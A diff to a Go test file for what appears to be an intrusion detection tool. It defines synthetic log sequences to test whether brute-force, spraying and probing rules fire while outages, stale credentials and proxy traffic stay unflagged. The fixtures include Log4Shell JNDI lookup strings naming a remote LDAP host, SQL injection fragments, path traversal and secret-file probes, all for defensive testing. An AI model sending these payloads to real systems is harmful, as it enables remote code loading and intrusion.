@@ -37,6 +37,9 @@ const (
 // unmatched is why nothing follows from lines that no rule matches.
 const unmatched = "no rule matches such lines"
 
+// own is why nothing follows from the failures of an account that got in before.
+const own = "an account that got in from there within 30 days is not guessed"
+
 func say(form string, values ...any) string { return fmt.Sprintf(form, values...) }
 
 func honestSequences() []sequence {
@@ -96,13 +99,23 @@ func outageSequences() []sequence {
 		{topicOutage, "LDAP is away: six offices of five people each", away(6, say(sshInvalid, "u{i%5}"), say(sshGone, "u{i%5}")), "", "held: five addresses that got in before fail, and more than get in"},
 		{topicOutage, "RADIUS is away: mail programs of eight offices", imap, "", "held: five addresses that got in before fail, and more than get in"},
 		{topicOutage, "Dovecot's authentication is away, for Postfix", repeat(200, 2*time.Second, "postfix/smtpd warning: unknown[{A}]: SASL LOGIN authentication failed: Connection lost to authentication server"), "", unmatched},
-		{topicOutage, "SSSD is away on a server that four addresses use", away(4, say(sshFailed, "deploy")), "ssh-bruteforce", "four addresses are too few to tell an outage from an attack"},
+		{topicOutage, "SSSD is away on a server that four addresses use", away(4, say(sshFailed, "deploy")), "", own},
+		{topicOutage, "the same, with accounts that were not there before", away(4, say(sshFailed, "staging")), "ssh-bruteforce", "four addresses are too few to tell an outage from an attack"},
 	}
 }
 
 func staleSequences() []sequence {
 	const one = "one account is no guessing, below 100 tries in 5 minutes"
+	then := func(before, after []said) []said { return slices.Concat(before, shifted(time.Hour, after)) }
 	return []sequence{
+		{topicStale, "a monitor over SSH, password changed", then(repeat(10, time.Minute, say(sshAccepted, "password", "monitor")), repeat(1000, time.Minute, say(sshFailed, "monitor"))), "", own},
+		{topicStale, "a backup over SSH, every quarter of an hour", then(repeat(1, 0, say(sshAccepted, "password", "backup")), repeat(96, 15*time.Minute, say(sshFailed, "backup"))), "", own},
+		{topicStale, "the same, which never got in", repeat(96, 15*time.Minute, say(sshFailed, "backup")), "ssh-slow-bruteforce", "nothing tells it from guessing"},
+		{topicStale, "fifteen mail programs of an office, all passwords changed", then(repeat(15, time.Minute, say(imapLogin, "u{i}@example.org")), repeat(300, 4*time.Second, say(imapFailed, "u{i%12}@example.org"))), "", own},
+		{topicStale, "four cameras that upload by FTP, passwords changed", then(repeat(4, time.Minute, "vsftpd [cam{i}] OK LOGIN: Client \"{A}\""), repeat(400, 30*time.Second, "vsftpd [cam{i%4}] FAIL LOGIN: Client \"{A}\"")), "", own},
+		{topicStale, "Prometheus: three exporters that log in to Proxmox, an old password", repeat(120, 5*time.Second, say(request, "-", "POST /api2/json/access/ticket", 401)), "", "a 401 answers a request, not an attempt"},
+		{topicStale, "an app that asks for a token once a second", repeat(280, time.Second, say(request, "-", "POST /api/auth", 401)), "", "a 401 answers a request, not an attempt"},
+		{topicStale, "twelve calendars of an office, all passwords changed", repeat(240, 5*time.Second, say(request, "u{i%12}", "GET /dav/cal.ics", 401)), "", "20 accounts in 10 minutes"},
 		{topicStale, "Prometheus: three exporters behind nginx, an old password", repeat(40, 15*time.Second, say(request, "prometheus", "GET /node0/metrics", 401), say(request, "prometheus", "GET /node1/metrics", 401), say(request, "prometheus", "GET /node2/metrics", 401)), "", "a 401 answers a request, not an attempt"},
 		{topicStale, "Uptime checks with an old password", repeat(600, 10*time.Second, say(request, "check", "GET /private/", 401)), "", "a 401 answers a request, not an attempt"},
 		{topicStale, "pip and an index of ours with an old token", repeat(200, time.Second, say(request, "ci", "GET /simple/p{i}/", 401)), "", "a 401 answers a request, not an attempt"},
@@ -134,6 +147,8 @@ func webSequences() []sequence {
 		{topicWeb, "a page elsewhere with a thousand images of ours", repeat(1000, 20*time.Millisecond, say(request, "-", "GET /.env?{i}", 404)), "", breadth},
 		{topicWeb, "a page elsewhere with four paths, many times", repeat(400, 50*time.Millisecond, say(request, "-", "GET /x{i%4}/.git/config", 404)), "", breadth},
 		{topicWeb, "Mastodon fetches previews of three links", repeat(3, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /.env?{i} HTTP/1.1\" 404 512 \"-\" \"Mastodon/4.5.2 (http.rb/5.3.1; +https://social.example/)\""), "", breadth},
+		{topicWeb, "a mail's pictures, fetched for its readers by their provider", repeat(200, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /d{i}/.env HTTP/1.1\" 404 512 \"-\" \"Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)\""), "", "what fetches for others is weak"},
+		{topicWeb, "a feed's pictures, fetched by readers' servers", repeat(200, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /d{i}/.git/config HTTP/1.1\" 404 512 \"-\" \"Miniflux/2.2.2 (+https://miniflux.app)\""), "", "what fetches for others is weak"},
 		{topicWeb, "a search engine follows links to us", repeat(200, time.Minute, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /wp-config.php.bak HTTP/1.1\" 404 512 \"-\" \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\""), "", breadth},
 		{topicWeb, "an edge of a CDN, whose visitors are not in the log", merged(repeat(3, time.Second, say(request, "-", "GET /.env", 404)), repeat(100, time.Second, say(request, "-", "GET /p{i}", 200))), "", breadth},
 		{topicWeb, "an edge of Cloudflare with many attackers behind it", from("104.16.1.1", repeat(100, time.Second, say(request, "-", "GET /d{i}/.env", 404))), "", "its networks are known, and are never reported"},
@@ -152,9 +167,13 @@ func webSequences() []sequence {
 		{topicWeb, "a download that is not there any more", repeat(1000, 200*time.Millisecond, say(request, "-", "GET /pool/p{i}.deb", 404)), "", "a 404 is an answer"},
 		{topicWeb, "phpThumb: the pictures of every page", repeat(200, 500*time.Millisecond, say(request, "-", "GET /phpthumb/phpThumb.php?src=../../../images/a{i}.jpg&w=100", 200)), "", unmatched},
 		{topicWeb, "a search box that asks at each key", repeat(60, 300*time.Millisecond, say(request, "-", "GET /search?q=union+select+a%%2C+b+from+t{i}", 200)), "", breadth},
+		{topicWeb, "a search box in another language", repeat(60, 300*time.Millisecond, say(request, "-", "GET /suche{i}?suchbegriff=union+select+a%%2C+b", 200)), "", breadth},
+		{topicWeb, "pages of forges and wikis about files of such names", repeat(20, 10*time.Second, say(request, "-", "GET /dan/app{i}/render/branch/main/.npmrc", 200), say(request, "-", "GET /app{i}/diff/.env", 200), say(request, "-", "GET /app{i}/~files/main/.env", 200), say(request, "-", "GET /wiki/{i}/.env", 200)), "", unmatched},
 		{topicWeb, "an editor of .env.example in a forge", repeat(40, 20*time.Second, say(request, "-", "GET /dan/app/_edit/main/.env.example", 200)), "", unmatched},
 		{topicWeb, "a browser of .env.example in Mercurial", repeat(40, 20*time.Second, say(request, "-", "GET /repo/file/tip/.env.example", 200)), "", unmatched},
 		{topicWeb, "a Referer of another's page, on a hundred pictures", repeat(100, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /logo.png HTTP/1.1\" 200 512 \"https://evil.example/?${jndi:ldap://x}\" \"Mozilla/5.0\""), "", breadth},
+		{topicWeb, "examples of .env in what is published", repeat(40, 5*time.Second, say(request, "-", "GET /docs/p{i}/.env.example", 200), say(request, "-", "GET /dan/app/releases/download/v{i}/.env.dist", 200)), "", unmatched},
+		{topicWeb, "a browser that takes our server for its proxy", repeat(200, 2*time.Second, say(request, "-", "GET http://www{i}.example.com/", 404), say(request, "-", "GET http://www.msftncsi.com/ncsi.txt?{i}", 404)), "", "a proxy that is set wrong does that for its people"},
 		{topicWeb, "comments on closed posts that a page has its readers send", repeat(9, time.Second, "wordpress Comment attempt on closed post {i} from {A}"), "", "10 in 10 minutes"},
 	}
 }
@@ -197,7 +216,8 @@ func mailSequences() []sequence {
 	return []sequence{
 		{topicMail, "a newsletter with 320 dead addresses of ours", repeat(320, 1700*time.Millisecond, say(unknownRcpt, "mail.example.com", "news@example.com")), "", answer},
 		{topicMail, "a joe job: bounces for senders that we never had", repeat(2000, 200*time.Millisecond, say(unknownRcpt, "mx.example.net", "")), "", answer},
-		{topicMail, "Outlook without \"my server requires authentication\"", merged(repeat(5, time.Second, relayDenied), shifted(30*time.Minute, repeat(5, time.Second, relayDenied))), "", "30 in an hour"},
+		{topicMail, "Outlook without \"my server requires authentication\"", merged(repeat(5, time.Second, relayDenied), shifted(30*time.Minute, repeat(5, time.Second, relayDenied))), "", "100 in an hour"},
+		{topicMail, "a customer's web server that does not log in, a mail a minute", repeat(600, time.Minute, relayDenied), "", "100 in an hour"},
 		{topicMail, "a mail server whose MX record was yesterday's", repeat(400, time.Second, "postfix/smtpd NOQUEUE: reject: RCPT from mail.example.net[{A}]: 454 4.7.1 <info@example.org>: Relay access denied; from=<a@example.net> to=<info@example.org> proto=ESMTP helo=<mail.example.net>"), "", answer},
 		{topicMail, "our resolver is away: names of clients are not found", repeat(2000, 200*time.Millisecond, "postfix/smtpd NOQUEUE: reject: RCPT from unknown[{A}]: 450 4.7.25 Client host rejected: cannot find your hostname, [{A}]; from=<a@example.net> to=<info@example.org> proto=ESMTP helo=<mail.example.net>"), "", answer},
 		{topicMail, "our resolver is away: sender domains are not found", repeat(2000, 200*time.Millisecond, "postfix/smtpd NOQUEUE: reject: RCPT from mail.example.net[{A}]: 450 4.1.8 <a@example.net>: Sender address rejected: Domain not found; from=<a@example.net> to=<info@example.org> proto=ESMTP helo=<mail.example.net>"), "", answer},
@@ -221,10 +241,11 @@ func attackSequences() []sequence {
 		{topicAttack, "a carrier's customer who tries 30 mailboxes, among 400 who log in", merged(repeat(30, 20*time.Minute, say(imapFailed, "f{i}@example.org")), repeat(400, 2*time.Minute, say(imapLogin, "c{i}@example.org"))), "login-slow-bruteforce", "at most 20 accounts excuse others"},
 		{topicAttack, "passwords of WordPress", repeat(50, 5*time.Second, say(request, "-", "POST /wp-login.php", 200)), "web-login-bruteforce", "50 in 10 minutes"},
 		{topicAttack, "passwords of a web server", repeat(300, 200*time.Millisecond, say(request, "admin", "GET /private/", 401)), "http-auth-bruteforce", "300 in 5 minutes"},
-		{topicAttack, "a password for ten accounts of a web server", repeat(10, 10*time.Second, say(request, "u{i}", "GET /private/", 401)), "http-auth-spraying", "10 accounts in 10 minutes"},
+		{topicAttack, "a password for twenty accounts of a web server", repeat(20, 10*time.Second, say(request, "u{i}", "GET /private/", 401)), "http-auth-spraying", "20 accounts in 10 minutes"},
+		{topicAttack, "passwords of an interface for programs", repeat(300, 900*time.Millisecond, say(request, "-", "POST /api/login", 401)), "http-auth-bruteforce", "300 in 5 minutes"},
 		{topicAttack, "a search for what is not there", repeat(10, time.Second, say(request, "-", "GET /d{i}/.env", 404)), "web-probing", "10 requests for 5 paths in an hour"},
 		{topicAttack, "Log4Shell in the name of the browser", repeat(3, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://192.0.2.99/a}\""), "web-tools", "no page can make a browser say that"},
-		{topicAttack, "an open relay is looked for", repeat(30, time.Minute, relayDenied), "mail-abuse", "30 in an hour"},
+		{topicAttack, "an open relay is looked for", repeat(100, 30*time.Second, relayDenied), "mail-abuse", "100 in an hour"},
 		{topicAttack, "a scanner that speaks other protocols to port 25", repeat(20, 10*time.Second, "postfix/smtpd warning: non-SMTP command from unknown[{A}]: GET / HTTP/1.1"), "probes", "20 in 10 minutes; browsers refuse that port"},
 		{topicAttack, "the same to port 22", repeat(290, 2*time.Second, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "nothing tells it from a page elsewhere that sends its readers to a port of sshd's"},
 	}
